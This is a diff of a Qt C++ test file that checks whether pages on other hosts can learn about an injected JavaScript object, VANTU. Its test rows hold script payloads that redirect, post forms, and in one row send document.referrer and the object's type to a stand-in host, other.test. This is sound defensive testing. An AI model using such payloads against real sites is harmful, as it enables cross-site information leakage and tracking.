@@ -103,14 +103,16 @@ private slots:
     void otherHostsLearnNothing_data()
     {
         const Table<QString> row("body");
-        row("link", "<script>onload = function() { location = 'http://other.test/'; }</script>"_s);
+        row("picture and link",
+            "<img src='http://other.test/picture'>"
+            "<script>onload = function() { location = 'http://other.test/'; }</script>"_s);
         row("redirection", "<script>onload = function() { location = '/away'; }</script>"_s);
         row("post",
             "<form method='post' action='http://other.test/'></form>"
             "<script>onload = function() { document.forms[0].submit(); }</script>"_s);
         row("frame", "<iframe src='http://other.test/'></iframe>"_s);
-        row("picture and page without a host",
-            "<img src='http://other.test/picture'><script>onload = function() { location ="
+        row("page without a host",
+            "<script>onload = function() { location ="
             " 'data:text/html,' + escape(\"<script>new Image().src ="
             " 'http://other.test/saw?' + document.referrer + ',' + typeof VANTU;</\" + 'script>'); }</script>"_s);
     }
@@ -118,6 +120,8 @@ private slots:
     void otherHostsLearnNothing()
     {
         QFETCH(QString, body);
+        if (QT_VERSION >= QT_VERSION_CHECK(6, 0, 0) && body.contains("data:"_s))
+            QSKIP("This engine lets no page go on to one without a host");
         service->answer("/away"_s, {{}, 302, "http://other.test/"});
         service->answer("http://other.test/"_s, {R"(<body><script>
             var sTitle = 'stranger', sUserUid = 'stranger';
@@ -162,6 +166,8 @@ private slots:
 
     void loadsFromInsideAFocusHandler()
     {
+        QVERIFY(QTest::qWaitForWindowActive(window.get()));
+        page->webView->setFocus();
         service->answer("/vantu/games"_s, {TestService::page({})});
         load("/vantu/info/"_s,
              "<input autofocus onfocus='VANTU.on_ToggleButtonClicked(3)'>"
